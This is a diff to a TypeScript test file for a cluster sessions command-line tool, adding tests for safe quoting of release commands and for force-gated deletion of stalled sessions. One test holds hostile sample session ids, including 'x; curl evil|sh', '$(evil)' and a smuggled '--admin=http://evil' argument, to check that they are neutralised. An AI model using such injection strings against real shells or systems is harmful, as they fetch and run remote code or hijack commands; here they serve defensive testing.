@@ -3,6 +3,7 @@ import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
 import { sessionsOnCluster } from '../../src/cluster/sessions.ts'
+import { releaseCommand } from '../../src/cluster/release.ts'
 import { sessions } from '../../src/sessions/sessions.ts'
 import { programInMemory } from '../support/program-in-memory.ts'
 
@@ -28,7 +29,8 @@ function answerTo(path: string, body: string): unknown {
       ...(isSetAside && { stalled: { kind: 'set_aside', invocation: 'inv_1', needsResume: true, message } }),
     }
   if (path === '/halting_session/s-9/status') return { ...status, state: 'idle', records: 0, isWorking: false }
-  if (path === '/invocations/inv_1/resume') return {}
+  if (path === '/invocations/inv_1/resume' || path === '/invocations/inv_1/kill') return {}
+  if (path === '/halting_session/s-1/remove') return true
   if (path !== '/query') return undefined
   if (body.includes('halting_attempts'))
     return { rows: [{ service_key: 's-1', value_utf8: JSON.stringify({ because, deaths: [] }) }] }
@@ -88,4 +90,20 @@ test('a session that is not set aside is left alone, and its state is said', asy
   expect(asked.filter((each) => each.includes('/invocations/'))).toEqual([])
   const program = programInMemory({ cwd: '/', env: {}, isTerminal: false })
   await expect(sessions({}, ['release', 's-1'], program)).rejects.toThrow('needs the address of the cluster')
+})
+
+test('whoever chose the id of a session runs nothing in the shell that a release is pasted into', () => {
+  expect(releaseCommand('x; curl evil|sh')).toBe('halting sessions release "x; curl evil|sh" --cluster URL')
+  expect(releaseCommand('$(evil)')).toBe("halting sessions release '$(evil)' --cluster URL")
+  expect(releaseCommand('--admin=http://evil')).toBe('halting sessions release --cluster URL -- --admin=http://evil')
+})
+
+test('a session that is set aside is deleted without running again, by force alone', async () => {
+  const program = programInMemory({ cwd: '/', env: {}, isTerminal: false })
+  const flags = { cluster: url, admin: url, yes: true }
+  await expect(sessionsOnCluster(flags, ['delete', 's-1'], program)).rejects.toThrow('--force')
+  expect(asked.filter((each) => each.includes('/invocations/'))).toEqual([])
+  await sessionsOnCluster({ ...flags, force: true }, ['delete', 's-1'], program)
+  const changes = asked.filter((each) => /kill|remove|close|resume/.test(each))
+  expect(changes).toEqual(['PATCH /invocations/inv_1/kill', 'POST /halting_session/s-1/remove'])
 })
